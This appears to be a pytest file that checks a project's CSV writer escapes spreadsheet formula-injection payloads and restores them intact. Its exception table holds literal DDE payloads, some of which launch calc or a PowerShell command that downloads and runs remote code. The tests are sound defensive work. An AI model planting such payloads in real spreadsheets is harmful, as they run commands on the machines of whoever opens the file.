"""Formula payloads: none begins a cell of ours as a formula, and each comes back as it was."""

from __future__ import annotations

import csv
import json

import pytest

from rollcall.records import records
from rollcall.sheets import SheetWriter, guard, unguard
from tests.corpora import DATA, needs

INJECTION = DATA / "csv" / "injection"
pytestmark = needs(INJECTION)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

NO_FORMULA = "begins no formula: a spreadsheet program shows it as text, so it stays as it is"
BARS = "a backslash before each bar changes the text; what runs the formula is its first character alone"
APOSTROPHE = "a mark that guards no formula is text, and stays"
NUMBERS_TOO = "a negative number may be the beginning of a formula, so it is guarded like one"
#: Where what we write differs from what a library writes, with the reason. Both keep a spreadsheet from running it.
DIFFERENT = {
    "%1": NO_FORMULA,
    "|1+1": NO_FORMULA,
    "=1|2": BARS,
    "=cmd|' /C calc'!A0": BARS,
    "=cmd|' /C powershell IEX(wget 0r.pe/p)'!A0": BARS,
    "@SUM(1+1)*cmd|' /C calc'!A0": BARS,
    "@SUM(1+1)*cmd|' /C powershell IEX(wget 0r.pe/p)'!A0": BARS,
    "-2+3+cmd|' /C calc'!A0": BARS,
    "'hello": APOSTROPHE,
    "'": APOSTROPHE,
    "-1.3": NUMBERS_TOO,
    "-1,2": NUMBERS_TOO,
}


def payloads() -> list[str]:
    if not INJECTION.is_dir():
        return []
    with (INJECTION / "csv_injection_payloads.csv").open(encoding="utf-8", newline="") as file:
        listed = [row["payload"] for row in csv.DictReader(file)]
    lines = (INJECTION / "payloadbox" / "Intruder" / "csv-payload.txt").read_text("utf-8").splitlines()
    return list(dict.fromkeys(listed + lines))


def expectations(part: str) -> list:
    path = INJECTION / "formula_escape_expected.json"
    if not path.is_file():
        return []
    return [case for library in json.loads(path.read_text("utf-8")).values() for case in library.get(part, [])]


@pytest.mark.feature("B3")
@pytest.mark.parametrize("payload", payloads())
def test_a_payload_is_written_as_text_and_reads_back(payload):
    """Looked at as a spreadsheet program does: the bytes parsed as CSV, the first character of the cell."""
    sheet = SheetWriter().write([["imei", "tags"], ["356779103674064", payload]]).decode("utf-8-sig")
    _, (_, shown) = csv.reader(sheet.splitlines(keepends=True))
    _, row = records([sheet], ",")

    assert not shown.startswith(FORMULA_STARTS)
    assert unguard(row.cells[1]) == payload


@pytest.mark.parametrize(("cell", "escaped"), expectations("dangerous"))
def test_what_two_libraries_write(cell, escaped):
    written = guard(cell)

    assert not written.startswith(FORMULA_STARTS)
    assert (written == escaped) == (cell not in DIFFERENT), DIFFERENT.get(cell)


@pytest.mark.parametrize("cell", expectations("unchanged"))
def test_what_need_not_change(cell):
    assert (guard(cell) == cell) == (cell not in DIFFERENT), DIFFERENT.get(cell)


@pytest.mark.parametrize("cell", expectations("round_trip_must_hold"))
def test_round_trips(cell):
    assert unguard(guard(cell)) == cell


def test_every_difference_is_still_a_case():
    cases = {cell for cell, _ in expectations("dangerous")} | set(expectations("unchanged"))

    assert set(DIFFERENT) <= cases
